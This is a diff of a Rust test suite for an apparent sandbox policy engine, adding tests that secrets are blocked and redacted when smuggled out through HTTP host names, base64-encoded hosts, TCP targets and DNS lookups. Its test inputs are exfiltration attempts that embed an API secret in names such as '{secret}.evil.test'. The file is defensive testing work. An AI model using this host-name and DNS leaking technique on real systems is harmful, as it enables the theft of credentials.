@@ -6,10 +6,10 @@ use serde_json::{Value, json};
 use wharf_engine::Outcome;
 
 use crate::attacks;
-use crate::world::SECRETS;
+use crate::world::secret;
 
 fn api() -> &'static str {
-    SECRETS[0].1
+    secret("api")
 }
 
 attacks! {
@@ -37,14 +37,26 @@ attacks! {
     said_in_a_request: "puts it into path, query, fragment, header and body of a refused and of a granted request" => "what is told of requests has no query, and the rest is scrubbed", |world| {
         let told = world.told(json!([
             { "do": "http", "url": format!("http://10.0.0.1/{0}?q={0}#{0}", api()) },
-            { "do": "http", "url": format!("http://{}/", api()) },
             { "do": "http", "url": format!("http://a:{}@a.test/", api()) },
             { "do": "http", "url": "http://10.0.0.1/", "method": api() },
             { "do": "http", "url": "http://10.0.0.1/", "headers": [[format!("{}:", api()), "x"]] },
-            { "do": "tcp", "to": format!("{}.test:1", api()), "receive": 0 },
         ])).await;
         assert!(told.iter().all(|result| result.get("err").is_some()), "{told:?}");
         assert!(!world.spy.told().contains("q="), "{}", world.spy.told());
+    }
+    said_in_a_host_name: "puts it into names of hosts, which are given in small letters, through every door" => "found in small letters as well, in errors, log and audit; no name server is asked", |world| {
+        let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
+        let told = world.told_under(&policy, json!([
+            { "do": "http", "url": format!("http://{}.evil.test/", api()) },
+            { "do": "http", "url": format!("http://{}/", STANDARD.encode(format!("ab{}", api())).trim_end_matches('=')) },
+            { "do": "wasi", "authority": format!("x.{}.test", api()), "path": "/" },
+            { "do": "tcp", "to": format!("{}.test:1", api()), "receive": 0 },
+            { "do": "lookup", "name": format!("{}.test", api()) },
+        ])).await;
+        assert!(told.iter().all(|result| result.get("err").is_some()), "{told:?}");
+        assert!(told[0]["err"].as_str().unwrap().contains("http://[secret api].evil.test/"), "{told:?}");
+        assert!(world.spy.told().matches("RequestDenied").count() >= 5, "{}", world.spy.told());
+        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
     }
     names_to_look_up: "puts data into names that it has looked up, without a grant of them" => "no name server is asked", |world| {
         let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
